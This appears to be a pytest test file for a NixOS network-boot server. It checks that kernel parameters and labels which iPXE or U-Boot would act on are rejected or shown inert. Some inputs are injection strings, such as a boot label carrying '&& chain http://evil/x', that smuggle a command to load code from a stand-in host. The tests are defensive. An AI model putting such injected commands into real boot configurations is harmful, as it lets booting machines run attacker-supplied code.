    bad = env.add("2", bootspec=False, kernel_params=params)
    snap = env.snapshot()
    gen = snap.profile.get(bad)
    assert not gen.valid and "iPXE" in " ".join(gen.problems)
    assert snap.selection.number == good
    script = data(snap.tree.files["boot.ipxe"]).decode()
    assert f":nixos-{bad}" not in script and "generations/2/" not in " ".join(snap.tree.files)
    kernel_lines = [line for line in script.splitlines() if line.startswith("kernel ")]
    assert kernel_lines and not any(ipxe_acts_on(w) for line in kernel_lines for w in ipxe_tokens(line))

    pi = env_factory("rpi")
    pi.profile = env.profile
    pi.host_table["profile"] = str(env.profile)
    pi_snap = pi.snapshot()
    assert pi_snap.selection.number == bad
    assert " ".join(params) in data(pi_snap.tree.files["dc-a6-32-01-02-03/cmdline.txt"]).decode()


def test_a_label_ipxe_would_act_on_is_shown_not_run(env_factory):
    env = ipxe_env(env_factory)
    n = env.add("1")
    edit_bootspec(env.tops[n], label="25.05 && chain http://evil/x ; #x ${ip}")
    script = data(env.tree().files["boot.ipxe"]).decode()
    items = [line for line in script.splitlines() if line.startswith("item nixos-")]
    assert len(items) == 1
    assert not any(ipxe_acts_on(w) for w in ipxe_tokens(items[0])), items[0]
    assert "chain http://evil/x" in items[0]


@pytest.mark.parametrize("param", ["console=${console}", "x=$(bootargs)", "quote='a b'", "back=\\x"])
def test_kernel_parameters_uboot_would_rewrite_are_not_served_to_a_uboot_host(env_factory, param):
    """U-Boot's pxe passes APPEND through its macro expansion (cli_simple_process_macros):
    ``${…}`` and ``$(…)`` are replaced, quotes and backslashes removed."""
    env = uboot_env(env_factory)
    good = env.add("1")
    bad = env.add("2", kernel_params=("quiet", param))
    snap = env.snapshot()
    assert not snap.profile.get(bad).valid and "U-Boot" in " ".join(snap.profile.get(bad).problems)
    assert snap.selection.number == good
    assert "LABEL nixos-2" not in data(snap.tree.files[MENU]).decode()


@pytest.mark.parametrize("boot", sorted(GENERATED))
def test_a_kernel_command_line_the_kernel_would_cut_is_not_served(env_factory, boot):
    """Linux keeps 2048 bytes of its command line (COMMAND_LINE_SIZE, arm64 and x86): the rest,
    with the host's root=, would be dropped without a word."""
    host = {} if boot == "rpi" else {"mac": IPXE_MAC, "cmdline": "ip=dhcp"}
    env = env_factory(boot, **host)
    good = env.add("1")
    bad = env.add("2", kernel_params=tuple(f"opt{i}=value" for i in range(200)))
    snap = env.snapshot()
    assert not snap.profile.get(bad).valid and "2048" in " ".join(snap.profile.get(bad).problems)
    assert snap.selection.number == good


@pytest.mark.parametrize("boot, cmdline", [("ipxe", "ip=dhcp && chain http://x"), ("ipxe", "console=${c}"),
                                           ("uboot", "console=${c}"), ("uboot", "a='b'")])
def test_a_host_cmdline_its_boot_loader_would_act_on_is_a_config_error(env_factory, boot, cmdline):
    env = env_factory(boot, mac=IPXE_MAC, cmdline=cmdline)
    with pytest.raises(ConfigError) as exc:
        env.config
    assert "hosts.h.cmdline" in str(exc.value)


def test_firmware_names_no_client_can_ask_for_are_left_out(env_factory, tmp_path):
    """An overlay named with a newline or with bytes that are not UTF-8 can never be requested
    (TFTP refuses non-UTF-8 names) and would break ``netboot tree`` lines: it is not listed."""
    root = Path(os.path.realpath(tmp_path)) / "odd-firmware"
    boot = make_firmware(root)
    (boot / "overlays" / "new\nline.dtbo").write_bytes(b"x")
    (boot / "overlays" / "tab\there.dtbo").write_bytes(b"x")
    with open(os.path.join(os.fsencode(boot / "overlays"), b"odd\xff.dtbo"), "wb") as f:
        f.write(b"x")
    (boot / "overlays" / "sp ace.dtbo").write_bytes(b"z")     # odd but printable: kept
    env = env_factory("rpi")
    env.firmware = boot
    env.add("1")
    names = [p.rsplit("/", 1)[-1] for p in env.tree().files if "/overlays/" in p]
    assert sorted(names) == ["disable-bt.dtbo", "sp ace.dtbo", "vc4-fkms-v3d.dtbo", "vc4-kms-v3d.dtbo"]


@pytest.mark.parametrize("role", ["pin", "trial"])
def test_a_pinned_generation_whose_number_nix_reuses_stays_the_pinned_system(env_factory, role):
    """Roll the profile back to 3, nix-collect-garbage -d (links 4 and 5 go), rebuild: Nix names
    the new system generation 4 again.  A pin (or trial) of 4 chose the old system, which its GC
    root keeps: that is what is served, and its root is not moved to the new untested one."""
    from appliance.control.gcroots import desired_roots, sync_roots
    from appliance.control.state import State

    env = env_factory("rpi")
    env.server["gcroots_dir"] = str(env.root / "gcroots")
    for v in ("1", "2", "3", "4", "5"):
        env.add(v)
    chosen = env.tops[4]
    choice = HostState(pin=4) if role == "pin" else HostState(trial=Trial(generation=4, previous=5, started=0.0))
    config = env.config

    def snapshot_and_roots():
        snap = env.snapshot(choice)
        assert sync_roots(config.server.gcroots_dir, desired_roots({"h": snap}, State(hosts={"h": choice}))) is None
        return snap

    assert snapshot_and_roots().selection.generation.toplevel == chosen
    os.unlink(env.profile)
    os.symlink("h-3-link", env.profile)
    for n in (1, 2, 4, 5):
        os.unlink(env.profile.parent / f"h-{n}-link")
    assert env.add("new-untested") == 4
    snap = snapshot_and_roots()
    assert snap.selection.reason == ("pin" if role == "pin" else "trial")
    assert snap.selection.generation.toplevel == chosen
    assert data(snap.tree.files["dc-a6-32-01-02-03/kernel8.img"]) == (chosen / "kernel").read_bytes()
    assert any("generation 4" in p and "new-untested" in p for p in snap.profile.problems), snap.profile.problems
    root = f"h-{'pinned' if role == 'pin' else 'trial'}-4.netboot-root"
    assert os.path.realpath(env.root / "gcroots" / root) == str(chosen)
    snap = snapshot_and_roots()                       # and again: the root did not move
    assert snap.selection.generation.toplevel == chosen
